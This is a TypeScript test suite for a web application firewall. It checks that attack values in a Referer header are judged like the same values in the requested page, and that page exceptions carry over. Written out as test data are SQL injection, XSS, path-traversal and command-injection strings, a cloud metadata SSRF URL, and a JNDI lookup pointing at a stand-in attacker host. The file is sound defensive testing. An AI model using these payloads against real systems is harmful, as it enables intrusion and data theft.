/** Managed rules judge the address in a Referer like a request for its page, with the exceptions of that page. */
import { deepEqual, equal } from 'node:assert/strict';
import { test } from 'node:test';
import { configurationOf } from '../../src/rules/firewall/testing.ts';
import { explainJudgement } from '#events';
import { CompiledZone, type ZoneConfiguration } from '#firewall';
import type { Ruleset } from '#rulesets';
import { managedParts } from '#managed';
import { type RequestDescription, requestFrom } from '#request';

const managedId = 'efb7b8c949ac4650a09736fc376e9aee';
const sqlRule = 'da82bdf8481b29aa658d11f0d16f1e0c';

/** An entry point whose rules are given in short. */
function entryPoint(phase: string, rules: readonly object[]): Ruleset {
  const written = rules.map((rule, index) => {
    const id = `${phase}${index}`;
    return { id, version: '1', expression: 'true', enabled: true, ref: id, last_updated: '', ...rule };
  });
  return {
    id: phase,
    name: '',
    description: '',
    kind: 'zone',
    phase,
    version: '1',
    last_updated: '',
    rules: written,
  } as unknown as Ruleset;
}

function migratedZone(exceptions: readonly object[] = [], custom: readonly object[] = []): CompiledZone {
  const execute = { action: 'execute', action_parameters: { id: managedId } };
  const entryPoints = [
    entryPoint('http_request_firewall_custom', custom),
    entryPoint('http_request_firewall_managed', [...exceptions, execute]),
  ];
  return compile({ entryPoints });
}

function legacyZone(
  previous: Partial<ZoneConfiguration['previous']> = {},
  more: Partial<ZoneConfiguration> = {},
): CompiledZone {
  const on = { waf: 'on', packages: {}, groups: {}, rules: {}, overrides: [], pageRules: [] } as const;
  return compile({
    migration: 'none',
    previous: { ...on, ...previous },
    ...more,
  } as Partial<ZoneConfiguration>);
}

function compile(more: Partial<ZoneConfiguration>): CompiledZone {
  return new CompiledZone(
    configurationOf({ zone: { plan: 'pro', name: 'shop.example' }, ...more }),
    managedParts,
  );
}

function get(url: string, headers: Readonly<Record<string, string>> = {}): RequestDescription {
  return { url, headers: { host: 'shop.example', ...headers } };
}

function stoppedBy(zone: CompiledZone, request: RequestDescription): string | undefined {
  const { verdict } = zone.judge({ view: requestFrom(request) });
  return verdict.kind === 'pass' || verdict.kind === 'redirect' ? undefined : verdict.by.ruleId;
}

/** A part of the page. */
function partOf(page: string): RequestDescription {
  return get('/style.css', { referer: page });
}

const zones = { rulesets: migratedZone(), 'legacy rules': legacyZone() };

for (const [name, zone] of Object.entries(zones)) {
  test(`${name}: parts of pages whose own addresses pass are not stopped by their Referers`, () => {
    for (const page of [
      'https://shop.example/category.php?c=12',
      'https://shop.example/search.php?',
      'https://shop.example/list?q=../',
      'https://shop.example/wp-admin/edit.php?s=..%2Fetc&post_status=all',
      'https://shop.example/wp-admin/load-styles.php?c=1&dir=ltr&load%5Bchunk_0%5D=dashicons',
      'http://other.example/run.php?cmd=12',
      'https://shop.example/wp-admin/install.php?step=2',
      'https://shop.example',
    ])
      equal(stoppedBy(zone, partOf(page)), undefined, page);
  });

  test(`${name}: a value is judged in a Referer, of this site or another, as it is judged as an argument or a path`, () => {
    const values = [
      '../',
      '..%2F..%2F..%2Fetc%2Fpasswd',
      '../etc',
      "1' or '1'='1",
      "' or '",
      'union select',
      '1 union select 1,2--',
      '<script>alert(1)</script>',
      'script',
      '; cat /etc/passwd',
      'cat',
      '{{7*7}}',
      '{{name}}',
      'http://169.254.169.254/latest/meta-data/',
      'https://example.com/',
      'a\0.php',
      "O'Brien",
      'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ',
    ];
    for (const value of values) {
      const written = encodeURIComponent(value);
      for (const target of [
        `/search?q=${written}`,
        `/search?${written}=1`,
        `/list?password=${written}`,
        `/${written}/x`,
      ]) {
        const isStopped = stoppedBy(zone, get(target)) !== undefined;
        for (const origin of ['https://shop.example', 'https://other.example'])
          equal(stoppedBy(zone, partOf(`${origin}${target}`)) !== undefined, isStopped, `${origin}${target}`);
      }
    }
  });

  test(`${name}: an attack in a Referer that is not an address of a page, or that no browser writes, is stopped`, () => {
    for (const referer of [
      "' or '1'='1",
      'javascript:alert(1)',
      '<script>alert(1)</script>',
      "https://shop.example/?q=1' or '1'='1",
      'https://shop.example/#"><img src=x onerror=alert(1)>',
      "https://user:1' or '1'='1@shop.example/",
      'http://169.254.169.254/latest/meta-data/',
      'android-app://x/?q=<script>alert(1)</script>',
    ])
      equal(typeof stoppedBy(zone, partOf(referer)), 'string', referer);
    const twice = {
      ...get('/'),
      headers: [
        ['Referer', 'https://shop.example/'],
        ['Referer', "https://shop.example/?q=1'+or+'1'='1"],
      ] as const,
    };
    equal(typeof stoppedBy(zone, twice), 'string');
  });
}

const attack = "1'+union+select+password+from+users--";
const search = 'http.request.uri.path eq "/search"';
const skip = (action_parameters: object, expression = search): object => ({
  action: 'skip',
  expression,
  action_parameters,
});

test('an exception of a page holds in the Referer of its parts, and nowhere else', () => {
  const ofArgument = { arguments: [{ kind: 'argument', name: 'q' }] };
  const cases: Readonly<Record<string, CompiledZone>> = {
    'an argument of all rules': migratedZone([skip({ rulesets: [managedId], ...ofArgument })]),
    'an argument of one rule': migratedZone([skip({ rules: { [managedId]: [sqlRule] }, ...ofArgument })]),
    'one rule': migratedZone([skip({ rules: { [managedId]: [sqlRule] } })]),
    'a category': migratedZone([skip({ categories: { [managedId]: ['sqli'] } })]),
    'the ruleset': migratedZone([skip({ rulesets: [managedId] })]),
    'the host and the page': migratedZone([
      skip({ rulesets: [managedId] }, `http.host eq "shop.example" and ${search}`),
    ]),
    'the phase': migratedZone([], [skip({ phases: ['http_request_firewall_managed'] })]),
    'a page rule of the legacy rules': legacyZone({
      pageRules: [{ id: 'p', pattern: 'shop.example/search*', waf: 'off' }],
    }),
    'an override of the legacy rules': legacyZone({
      overrides: [
        {
          id: 'o',
          urls: ['shop.example/search*'],
          groups: {},
          rules: { '100GH0101': 'disable', GH0101: 'disable' },
          rewriteAction: { block: 'disable', challenge: 'disable' },
        },
      ],
    }),
    'a firewall rule that bypasses the legacy rules': legacyZone(
      {},
      {
        firewallRules: [
          { id: 'f', action: 'bypass', products: ['waf'], description: '', ref: '', expression: search },
        ],
      },
    ),
  };
  for (const [name, zone] of Object.entries(cases)) {
    const pages = [`/search?q=${attack}`, `/list?q=${attack}`];
    deepEqual(
      pages.map((page) => stoppedBy(zone, get(page)) !== undefined),
      [false, true],
      name,
    );
    deepEqual(
      pages.map((page) => stoppedBy(zone, partOf(`https://shop.example${page}`)) !== undefined),
      [false, true],
      name,
    );
    // The same attack in the request itself is not of that page.
    const both = get(`/list?q=${attack}`, { referer: `https://shop.example/search?q=${attack}` });
    equal(stoppedBy(zone, both) !== undefined, true, name);
  }
  const { 'an argument of all rules': one, 'the host and the page': ofHost } = cases;
  equal(stoppedBy(one!, partOf(`https://shop.example/search?id=${attack}`)), sqlRule);
  equal(stoppedBy(ofHost!, partOf(`https://other.example/search?q=${attack}`)), sqlRule);
});

test('an exception of a page covers rules that look at all headers, and does not weaken other rules of the page', () => {
  const lookup = '${jndi:ldap://evil.example/a}';
  const zone = migratedZone([skip({ rulesets: [managedId], arguments: [{ kind: 'argument', name: 'q' }] })]);
  equal(typeof stoppedBy(migratedZone(), partOf(`https://shop.example/search?q=${lookup}`)), 'string');
  equal(stoppedBy(zone, partOf(`https://shop.example/search?q=${lookup}`)), undefined);
  equal(
    typeof stoppedBy(
      zone,
      get('/style.css', { referer: `https://shop.example/search?q=${lookup}`, 'x-api': lookup }),
    ),
    'string',
  );
});

test('rules of the owner of a zone judge a page only when it is asked for', () => {
  const zone = migratedZone([], [{ action: 'block', expression: search }]);
  equal(typeof stoppedBy(zone, get('/search')), 'string');
  equal(stoppedBy(zone, partOf('https://shop.example/search')), undefined);
  equal(stoppedBy(zone, partOf(`https://shop.example/search?q=${attack}`)), sqlRule);
});

test('an exception for the Referer of a path still holds', () => {
  const zone = migratedZone([
    skip(
      { rulesets: [managedId], arguments: [{ kind: 'header', name: 'referer' }] },
      'http.request.uri.path eq "/style.css"',
    ),
  ]);
  for (const value of [attack, 'a%00.php']) {
    equal(stoppedBy(zone, partOf(`https://shop.example/?f=${value}`)), undefined);
    equal(
      typeof stoppedBy(zone, get('/other.css', { referer: `https://shop.example/?f=${value}` })),
      'string',
    );
  }
});

test('an explanation names the Referer, the argument in it and the bytes', () => {
  const zone = migratedZone();
  const explained = (value: string): readonly unknown[] => {
    const view = requestFrom(partOf(`https://shop.example/?file=${value}`));
    const { rules } = explainJudgement(zone, view, zone.judge({ view }));
    const [found] = JSON.stringify(rules)
      .match(/\{"text":[^{}]*,"start":\d+[^{}]*\{[^{}]*\}[^{}]*\}/g)!
      .map((text) => JSON.parse(text));
    return [found.where.kind, found.where.name, found.text, found.why];
  };
  deepEqual(explained(attack).slice(0, 2), ['header', 'referer']);
  deepEqual(explained(attack)[2], "' union select password from users");
  equal(String(explained(attack)[3]).includes('in file inside of the value'), true);
  const signature = explained('a%00.php');
  deepEqual(
    [signature[0], signature[1], signature[3]],
    ['header', 'referer', 'in the argument "file" of the address'],
  );
});
